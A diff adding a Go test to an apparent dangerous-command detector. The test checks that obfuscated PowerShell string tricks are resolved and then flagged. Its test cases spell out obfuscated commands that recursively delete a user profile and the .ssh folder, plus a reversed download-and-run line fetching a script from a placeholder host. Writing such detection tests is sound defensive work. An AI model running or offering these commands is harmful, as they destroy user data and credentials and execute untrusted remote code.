@@ -44,3 +44,55 @@ func TestRound41PowerShellEnvironmentToFile(t *testing.T) {
 		`Get-ChildItem env: | Sort-Object Name | Out-File $env:TEMP\env.txt`,
 	})
 }
+
+// PowerShell constant expressions are evaluated, not judged unknown: a
+// command name or a whole line built from literals is judged as the text it
+// becomes, and the same tricks building a harmless command pass.
+func TestRound41PowerShellConstantExpressions(t *testing.T) {
+	for _, c := range []struct{ expr, want string }{
+		{`('ie'+'x')`, "iex"},
+		{`(-join ('Get','-Date'))`, "Get-Date"},
+		{`('etaD-teG'[-1..-8] -join '')`, "Get-Date"},
+		{`('etaD-teG'[-1..-100] -join '')`, "Get-Date"},
+		{`('{0}-{1}' -f 'Get','ChildItem')`, "Get-ChildItem"},
+		{`('{0,3}|{1:N}' -f 'a','b')`, "a|b"},
+		{`('Get-Datex' -replace 'x$','')`, "Get-Date"},
+		{`('xGet-Date' -replace 'X')`, "Get-Date"},
+		{`(-join [char[]](105,101,120))`, "iex"},
+		{`([char[]](105,101,120) -join '')`, "iex"},
+		{`([char]105+[char]101+[char]120)`, "iex"},
+		{`([string]::Join('-', ('a','b')))`, "a-b"},
+		{`(('Remove','Item' -join '-') + ' x')`, "Remove-Item x"},
+		{"(\"a`tb\")", "a\tb"},
+		{`(@('a','b') + 'c')`, "a b c"},
+		{`('abc'[0])`, "a"},
+	} {
+		if got, ok := psConstEval(c.expr); !ok || got != c.want {
+			t.Errorf("psConstEval(%q) = %q, %v; want %q", c.expr, got, ok, c.want)
+		}
+	}
+	for _, expr := range []string{`($a + 'b')`, `("x$y")`, `(Get-Date)`, `('a' -split ',')`, `([IO.Path]::GetTempPath())`, `('a'`, `(-join $x)`, `('a'[$i])`} {
+		if got, ok := psConstEval(expr); ok {
+			t.Errorf("psConstEval(%q) = %q, want unknown", expr, got)
+		}
+	}
+
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`iex (-join ('Rem','ove-Item -Recurse -Force C:\Users\dev'))`, CategoryFileDelete, "win-delete-profile", LevelCritical},
+		{`iex ('ecroF- esruceR- sresU\:C metI-evomeR'[-1..-100] -join '')`, CategoryFileDelete, "win-delete-profile", LevelCritical},
+		{`iex ([string]::Join('', ('Remove-Item ','-Recurse -Force ','C:\Users\dev')))`, CategoryFileDelete, "win-delete-profile", LevelCritical},
+		{`iex ('Xemove-Item -Recurse -Force C:\Users\dev' -replace '^X','R')`, CategoryFileDelete, "win-delete-profile", LevelCritical},
+		{`$c = 'metI-evomeR'[-1..-11] -join ''; & $c -Recurse -Force C:\Users\dev\.ssh`, CategoryFileDelete, "win-delete-credentials", LevelCritical},
+		{`iex (-join ('xei | 1sp.a/moc.elpmaxe.x//:sptth rwi'[-1..-100]))`, CategoryRemoteExec, "remote-code-exec", LevelCritical},
+	})
+	checkSafe(t, d, ps, []string{
+		`iex (-join ('Get','-Date'))`,
+		`iex ('etaD-teG'[-1..-8] -join '')`,
+		`& (-join('Get','-ChildItem')) -Path .\src -Filter *.ps1`,
+		`iex ('{0} {1}' -f 'Get-ChildItem','C:\work\project')`,
+		`iex ([char[]](71,101,116,45,68,97,116,101) -join '')`,
+		`Write-Host (('a','b','c') -join ', ')`,
+	})
+}
